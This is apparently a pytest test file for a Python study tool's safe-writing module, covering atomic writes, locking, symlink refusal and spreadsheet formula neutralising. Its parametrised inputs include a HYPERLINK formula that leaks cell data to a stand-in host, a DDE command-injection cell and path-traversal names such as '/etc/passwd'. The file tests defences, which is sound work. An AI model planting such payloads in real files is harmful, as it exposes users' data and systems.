"""Safe writing: atomic replacement, one writer per study, nothing outside the study folder."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import time

import pytest

from impactkit.core.errors import UserError
from impactkit.core.files import LOCK_NAME, atomic_file, atomic_write, inside, study_lock


def test_atomic_write_replaces_the_file_and_keeps_its_permissions(tmp_path):
    target = tmp_path / "changes.csv"
    target.write_text("old\n")
    target.chmod(0o640)
    atomic_write(target, "new\n")
    assert target.read_text() == "new\n"
    assert target.stat().st_mode & 0o777 == 0o640
    assert [p.name for p in tmp_path.iterdir()] == ["changes.csv"]  # no temporary file left


def test_an_error_while_writing_leaves_the_old_file_and_no_temporary_file(tmp_path):
    target = tmp_path / "study.yaml"
    target.write_text("impactkit: 1\n")
    with pytest.raises(RuntimeError), atomic_file(target, "w", encoding="utf-8") as handle:
        handle.write("half")
        raise RuntimeError("disk full")
    assert target.read_text() == "impactkit: 1\n"
    assert [p.name for p in tmp_path.iterdir()] == ["study.yaml"]


def test_a_new_file_gets_the_usual_permissions(tmp_path):
    atomic_write(tmp_path / "new.txt", b"x")
    assert (tmp_path / "new.txt").stat().st_mode & 0o777 == 0o666 & ~_umask()


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_writing_through_a_symbolic_link_is_refused(tmp_path):
    victim = tmp_path / "outside.txt"
    victim.write_text("precious")
    link = tmp_path / "changes.csv"
    link.symlink_to(victim)
    with pytest.raises(UserError, match="symbolic link") as caught:
        atomic_write(link, "overwritten")
    assert "symbolische koppeling" in caught.value.text.nl
    assert victim.read_text() == "precious"


@pytest.mark.parametrize("name", ["../outside.csv", "/etc/passwd", "sub/../../outside.csv"])
def test_paths_outside_the_study_are_refused_with_a_message_in_both_languages(tmp_path, name):
    study = tmp_path / "study"
    study.mkdir()
    with pytest.raises(UserError, match="outside the study folder") as caught:
        inside(study, name, what="changes file")
    assert "buiten de studiemap" in caught.value.text.nl
    assert inside(study, name, allow_outside=True).is_absolute()


def test_a_symbolic_link_pointing_out_of_the_study_is_outside(tmp_path):
    study = tmp_path / "study"
    study.mkdir()
    (tmp_path / "elsewhere.csv").write_text("x")
    (study / "changes.csv").symlink_to(tmp_path / "elsewhere.csv")
    with pytest.raises(UserError):
        inside(study, "changes.csv")
    assert inside(study, "sub/changes.csv") == (study / "sub" / "changes.csv").resolve()


def test_a_second_writer_waits_then_names_the_holder(tmp_path):
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            textwrap.dedent(f"""
            import sys, time
            from impactkit.core.files import study_lock
            with study_lock({str(tmp_path)!r}):
                print("held", flush=True)
                time.sleep(30)
        """),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        started = time.monotonic()
        with pytest.raises(UserError, match=f"pid {holder.pid}") as caught, study_lock(tmp_path, wait=0.3):
            pass
        assert time.monotonic() - started >= 0.3
        assert "wijzigt deze studie" in caught.value.text.nl
    finally:
        holder.kill()
        holder.wait()
    with study_lock(tmp_path, wait=5) as lock:  # a killed holder leaves nothing locked
        assert lock.name == LOCK_NAME
        assert lock.read_text() == str(os.getpid())


WRITER = """
import sys
from impactkit.core.files import atomic_write
target, size = sys.argv[1], int(sys.argv[2])
print("ready", flush=True)
for round in range(10_000):
    atomic_write(target, (str(round % 10) * size).encode())
"""


def test_a_writer_killed_at_any_moment_leaves_the_old_or_the_new_file(tmp_path):
    target = tmp_path / "changes.csv"
    size = 200_000
    target.write_bytes(b"o" * size)
    seen = set()
    for attempt in range(12):
        writer = subprocess.Popen(
            [sys.executable, "-c", WRITER, str(target), str(size)], stdout=subprocess.PIPE, text=True
        )
        assert writer.stdout.readline().strip() == "ready"
        time.sleep(0.01 * (attempt % 4))
        writer.send_signal(signal.SIGKILL)
        writer.wait()
        data = target.read_bytes()
        assert len(data) == size and len(set(data)) == 1, f"torn file after kill {attempt}"
        seen.add(data[:1])
    for leftover in tmp_path.glob(".changes.csv.*.tmp"):  # a kill between write and rename leaves at most this
        leftover.unlink()
    assert seen  # the file was always whole


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?leak="&A1)', "+31 6 1234", "@SUM(A1:A9)", "-cmd|' /C calc'!A0", "\tx", "\rx"],
)
def test_formula_text_is_neutralised_for_spreadsheets_and_restored_when_read(text):
    from impactkit.core.files import neutralise_cell, restore_cell

    safe = neutralise_cell(text)
    assert safe == "'" + text
    assert restore_cell(safe) == text


@pytest.mark.parametrize("value", [3, 2.5, "-5", "+1,5", "gewoon tekst", "'al tussen aanhalingstekens", None, ""])
def test_numbers_and_plain_text_are_left_alone(value):
    from impactkit.core.files import neutralise_cell, restore_cell

    assert neutralise_cell(value) == value
    assert restore_cell(value) == value


def test_the_lock_is_reentrant_within_a_process_and_released_after(tmp_path):
    from impactkit.core.files import _HELD

    probe = (
        "import fcntl, os, sys; fd = os.open(sys.argv[1], os.O_RDWR); fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)"
    )
    with study_lock(tmp_path, wait=0.2), study_lock(tmp_path, wait=0.2):  # a command calling a locking function
        assert (tmp_path / LOCK_NAME).read_text() == str(os.getpid())
        assert subprocess.run([sys.executable, "-c", probe, str(tmp_path / LOCK_NAME)]).returncode != 0  # held
    assert not _HELD
    assert not (tmp_path / LOCK_NAME).exists()  # nothing left in the study


def test_many_writers_take_turns_one_at_a_time(tmp_path):
    script = textwrap.dedent("""
        import os, sys, time
        from impactkit.core.files import study_lock
        folder = sys.argv[1]
        for _ in range(20):
            with study_lock(folder, wait=60):
                mark = os.path.join(folder, "inside")
                assert not os.path.exists(mark), "two writers at once"
                open(mark, "w").close()
                time.sleep(0.002)
                os.unlink(mark)
    """)
    procs = [subprocess.Popen([sys.executable, "-c", script, str(tmp_path)]) for _ in range(3)]
    assert [p.wait(timeout=120) for p in procs] == [0, 0, 0]
    assert list(tmp_path.iterdir()) == []


def test_an_output_folder_is_made_and_a_linked_one_refused(tmp_path):
    from impactkit.core.files import output_folder, refuse_links

    assert output_folder(tmp_path / "a" / "b").is_dir()
    (tmp_path / "link").symlink_to(tmp_path / "a", target_is_directory=True)
    with pytest.raises(UserError, match="symbolic link"):
        output_folder(tmp_path / "link")
    (tmp_path / "a" / "file").write_text("x")
    with pytest.raises(UserError, match="is a file"):
        output_folder(tmp_path / "a" / "file")
    (tmp_path / "a" / "b" / "report.html").symlink_to(tmp_path / "a" / "file")
    refuse_links(tmp_path / "a" / "b", ["result.json"])  # only the names asked for
    with pytest.raises(UserError, match="report.html"):
        refuse_links(tmp_path / "a" / "b")


def test_inside_names_the_file_in_each_language(tmp_path):
    from impactkit.core.i18n import Text

    with pytest.raises(UserError) as caught:
        inside(tmp_path, "../x.csv", what=Text(en="the changes file", nl="het veranderingenbestand"))
    assert caught.value.text.en.startswith("the changes file '../x.csv' lies outside")
    assert caught.value.text.nl.startswith("het veranderingenbestand '../x.csv' ligt buiten")


def test_text_that_starts_like_a_formula_stays_text_in_a_workbook(tmp_path):
    from openpyxl import Workbook, load_workbook

    from impactkit.core.files import keep_text

    book = Workbook()
    sheet = book.active
    values = ['=HYPERLINK("http://evil.example")', "+31 6", "@SUM(A1)", "-5", "plain", 4]
    for row, value in enumerate(values, start=1):
        keep_text(sheet.cell(row=row, column=1, value=value))
    book.save(tmp_path / "t.xlsx")
    cells = [row[0] for row in load_workbook(tmp_path / "t.xlsx").active.iter_rows()]
    assert [c.value for c in cells] == values
    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "s", "n"]
    assert [bool(c.quotePrefix) for c in cells] == [True, True, True, False, False, False]


def test_an_error_names_the_file_asked_for_not_the_temporary_one(tmp_path):
    with pytest.raises(FileNotFoundError) as caught:
        atomic_write(tmp_path / "missing" / "x.svg", b"<svg/>")
    assert caught.value.filename == str(tmp_path / "missing" / "x.svg")
